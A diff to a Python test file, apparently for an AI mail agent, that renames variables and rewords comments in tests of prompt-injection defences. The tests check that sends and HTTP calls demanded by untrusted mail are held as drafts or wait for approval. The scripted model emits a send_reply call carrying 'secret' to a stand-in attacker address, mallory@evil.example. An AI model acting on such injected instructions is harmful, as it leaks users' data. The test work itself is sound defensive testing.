@@ -1,4 +1,4 @@
-"""What a run may send out once it has read strangers' words."""
+"""What a run may send out after it has read untrusted content."""
 
 import json
 import unittest
@@ -68,36 +68,36 @@ LINKS = (
 
 
 class TestAttacks(MailTestCase):
-	"""A model that does whatever a mail says: nothing leaves, and what the sender may have still works."""
+	"""The model does whatever a mail says: attacks send nothing, and permitted calls still work."""
 
 	def test_replies_to_injected_recipients_stay_unsent_drafts(self):
 		with ModelServer() as server:
 			self.agent(server, may_send_mail=1)
-			for number, wish in enumerate((*INJECTIONS, *(f"Urgent! {each}" for each in INJECTIONS))):
+			for number, instruction in enumerate((*INJECTIONS, *(f"Urgent! {each}" for each in INJECTIONS))):
 				evil = f"mallory{number}@evil.example"
 				to = evil if number % 2 else f"anna@customer.example, {evil}"
 				server.script(
 					tool_call("send_reply", {"to": to, "subject": "Data", "body": "secret"}), text("Sent.")
 				)
-				name = self.take(text=wish.format(evil=evil))
+				name = self.take(text=instruction.format(evil=evil))
 				self.work(name)
 				(draft,) = outgoing(name)
 				self.assertEqual(
-					(draft.status, send_all(name), queued(draft.name)), ("Draft", [False], []), wish
+					(draft.status, send_all(name), queued(draft.name)), ("Draft", [False], []), instruction
 				)
 
 	def test_http_calls_demanded_by_a_mail_wait_for_approval(self):
 		with Shop() as shop, ModelServer() as server:
 			fetch, post = (make_tool(types, allow_private_hosts=1) for types in ("GET", "POST"))
 			self.agent(server, tools=(fetch, post, "send_reply"))
-			for number, wish in enumerate((*LINKS, *(f"Re: {each}" for each in LINKS))):
+			for number, instruction in enumerate((*LINKS, *(f"Re: {each}" for each in LINKS))):
 				url = f"{shop.url}/{number}"
 				more = {"body": {"secret": 1}} if number % 2 else {}
 				server.script(tool_call(post if number % 2 else fetch, {"url": url, **more}))
-				name = self.take(text=wish.format(url=url))
+				name = self.take(text=instruction.format(url=url))
 				self.work(name)
 				run = row(name).run
-				self.assertEqual(frappe.db.get_value("Agent Run", run, "status"), "Waiting", wish)
+				self.assertEqual(frappe.db.get_value("Agent Run", run, "status"), "Waiting", instruction)
 				self.assertEqual(frappe.db.get_value("Agent Draft", {"run": run}, "status"), "Pending")
 			self.assertEqual(shop.bodies, [])
 
@@ -153,12 +153,12 @@ class TestWhatWasRead(MailTestCase):
 			todos = make_tool("Get List", reference_doctype="ToDo")
 			agent = make_agent(make_model(server), (post, read, todos))
 			order = tool_call(post, {"url": shop.url, "body": {"order": 1}})
-			# Others' to-dos on a bench may be of portal users, which are untrusted.
+			# On a bench, other to-dos may belong to portal users, who are untrusted.
 			own = {"filters": {"name": make("ToDo", description="Order one").name}}
 			for first, arguments, status in ((todos, own, "Success"), (read, {}, "Waiting")):
 				server.script(
 					tool_call(first, arguments), order, *([text("Ordered.")] if status == "Success" else [])
 				)
-				said = run_agent_sync(agent, "Order one", channel_id=frappe.generate_hash(length=8))
-				self.assertEqual(said["status"], status)
+				result = run_agent_sync(agent, "Order one", channel_id=frappe.generate_hash(length=8))
+				self.assertEqual(result["status"], status)
 			self.assertEqual(shop.bodies, [{"order": 1}])
